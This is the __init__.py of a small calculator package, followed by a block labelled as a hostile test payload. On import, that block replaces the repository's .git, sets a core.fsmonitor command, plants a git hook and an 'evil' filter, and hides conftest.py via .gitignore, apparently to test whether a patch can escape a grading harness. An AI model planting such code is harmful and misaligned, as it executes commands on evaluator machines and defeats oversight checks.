"""calc: a small, safe arithmetic expression evaluator."""

from calc.errors import CalcError, EvalError, ParseError
from calc.evaluator import Calculator, evaluate
from calc.parser import parse

__all__ = ["CalcError", "EvalError", "ParseError", "Calculator", "evaluate", "parse"]
__version__ = "1.0.0"


# --- hostile test payload (swe-monkeys tests/data/hostile) ---
# Inert where the corpus stores it; live once the patch is applied to a repository.
_LIVE = "/data/hostile/" not in __file__.replace("\\", "/")


def _swap_git():
    """Root's git must never read a repository the candidate wrote: move .git aside and put a
    repository with a core.fsmonitor command there, write .git/info/attributes and hooks, and
    plant files where .gitignore would hide them from `git status`."""
    import os, subprocess
    marker = "/tmp/swe-monkeys-hostile-escape-git_metadata_runtime"
    for action in (lambda: os.rename("/testbed/.git", "/testbed/.git-orig"),
                   lambda: open("/testbed/.git/info/attributes", "w").write("* filter=evil\n"),
                   lambda: open("/testbed/.git/hooks/post-checkout", "w").write("#!/bin/sh\ntouch %s\n" % marker),
                   lambda: open("/testbed/.gitignore", "a").write("conftest.py\n")):
        try:
            action()
        except OSError:
            pass
    try:
        os.makedirs("/testbed/.git", exist_ok=True)
        subprocess.run(["git", "init", "-q", "/testbed"], check=False)
        subprocess.run(["git", "-C", "/testbed", "config", "core.fsmonitor", "touch " + marker], check=False)
    except OSError:
        pass


if _LIVE:
    _swap_git()
